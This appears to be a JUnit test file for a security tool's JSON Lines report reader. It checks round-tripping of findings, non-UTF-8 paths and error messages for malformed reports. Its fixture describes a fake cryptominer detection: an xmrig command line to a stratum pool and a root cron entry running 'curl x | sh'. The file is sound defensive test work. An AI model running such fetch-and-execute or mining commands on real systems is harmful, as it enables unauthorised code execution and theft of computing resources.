package dev.ferret.respond;

import dev.ferret.collect.CollectOptions;
import dev.ferret.data.DetectionData;
import dev.ferret.model.Coverage;
import dev.ferret.model.Endpoint;
import dev.ferret.model.FileRef;
import dev.ferret.model.Finding;
import dev.ferret.model.HostInfo;
import dev.ferret.model.PathBytes;
import dev.ferret.model.PersistenceEntry;
import dev.ferret.model.ProcessRef;
import dev.ferret.model.Reason;
import dev.ferret.model.Snapshot;
import dev.ferret.report.JsonLinesSink;
import dev.ferret.scan.Area;
import dev.ferret.scan.ScanRequest;
import dev.ferret.scan.ScanResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** A JSON Lines report written by the real sink reads back into the findings the planner needs. */
class ReportFindingsTest {
    @TempDir
    Path dir;

    /** Writes findings as `ferret scan --format jsonl` does. */
    static Path report(Path dir, String host, String family, boolean live, String root, List<Finding> findings)
            throws Exception {
        Snapshot snapshot = new Snapshot(Path.of(root), live, new Coverage());
        snapshot.host(new HostInfo(host, family, "test os", null, null, 1, null));
        ScanRequest request = new ScanRequest(Set.of(Area.PROCESSES, Area.PERSISTENCE), Path.of(root), live,
                CollectOptions.defaults(), DetectionData.builtIn());
        ScanResult result = new ScanResult(request, snapshot, findings, Instant.EPOCH, Instant.EPOCH.plusSeconds(3));
        Path file = dir.resolve(host + ".jsonl");
        try (Writer w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            new JsonLinesSink(true).write(result, w);
        }
        return file;
    }

    static Finding miner() {
        return new Finding("process.miner-command-line", "Miner command line", List.of("process"), List.of("T1496"), 92,
                List.of(new Reason("command line has stratum+tcp://", 85)),
                new ProcessRef(101, 100, "xmrig", "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o stratum+tcp://p:3333"),
                new FileRef("/tmp/.cache/xmrig", 10L, Instant.parse("2026-01-01T00:00:00Z"), "aa", "bb"), null,
                new Endpoint("91.121.140.167", 3333),
                new PersistenceEntry("cron", "/var/spool/cron/crontabs/root", 4, "root", "curl x | sh",
                        Instant.parse("2026-01-02T00:00:00Z"), List.of("/tmp/.cache/xmrig")),
                List.of("suspend pid 101"), "c1");
    }

    @Test
    void findingsComeBackWithTheirEntitiesAndChains() throws Exception {
        Path file = report(dir, "web01", "linux", true, "/", List.of(miner()));
        ReportFindings r = ReportFindings.read(file);
        assertEquals("web01", r.host());
        assertEquals("linux", r.osFamily());
        assertEquals("/", r.root());
        assertTrue(r.live());
        assertEquals(1, r.findings().size());
        Finding f = r.findings().get(0);
        Finding m = miner();
        assertEquals(m.ruleId(), f.ruleId());
        assertEquals(m.score(), f.score());
        assertEquals(m.chain(), f.chain());
        assertEquals(m.process(), f.process());
        assertEquals(m.file(), f.file());
        assertEquals(m.destination(), f.destination());
        assertEquals(m.persistence(), f.persistence());
        assertEquals("command line has stratum+tcp://", f.reasons().get(0).text());
    }

    @Test
    void pathsThatAreNotUtf8ComeBackAsTheirExactBytes() throws Exception {
        String exe = PathBytes.decode(new byte[] {'/', 't', 'm', 'p', '/', 'b', 'a', 'd', (byte) 0xff});
        String cron = PathBytes.decode(new byte[] {'/', 'e', 't', 'c', '/', 'c', 'r', 'o', 'n', '.', 'd', '/',
                (byte) 0xc3, '('});
        Finding m = miner();
        Finding odd = new Finding(m.ruleId(), m.ruleName(), m.categories(), m.techniques(), m.score(), m.reasons(),
                new ProcessRef(101, 100, "bad", exe, exe), FileRef.of(exe), null, null,
                new PersistenceEntry("cron", cron, 1, "root", exe, null, List.of(exe)), List.of(), "c1");
        Path file = report(dir, "web01", "linux", true, "/", List.of(odd));
        String line = Files.readAllLines(file).stream().filter(l -> l.contains("\"alert\"")).findFirst().orElseThrow();
        // readable text where people look, exact bytes under ferret.raw
        assertTrue(line.contains("\"path\":\"/tmp/bad\uFFFD\"") && line.contains("\"raw\":{"), line);
        Finding back = ReportFindings.read(file).findings().get(0);
        assertEquals(exe, back.file().path());
        assertEquals(exe, back.process().executable());
        assertEquals(cron, back.persistence().path());
    }

    @Test
    void badReportsAreNamedByFileAndLine() throws Exception {
        Path file = dir.resolve("bad.jsonl");
        Files.writeString(file, "{\"event\":{\"kind\":\"state\"}}\nnot json\n");
        ReportFindings.BadReportException e = assertThrows(ReportFindings.BadReportException.class,
                () -> ReportFindings.read(file));
        assertTrue(e.getMessage().endsWith("bad.jsonl:2: not a JSON object (is it a JSON Lines report from 'ferret "
                + "scan --format jsonl'?)"), e.getMessage());
        Files.writeString(file, "{\"event\":{\"kind\":\"alert\"}}\n");
        assertTrue(assertThrows(ReportFindings.BadReportException.class, () -> ReportFindings.read(file)).getMessage()
                .contains(":1: an alert without rule.id"));
        Files.writeString(file, "");
        assertThrows(ReportFindings.BadReportException.class, () -> ReportFindings.read(file));
    }
}
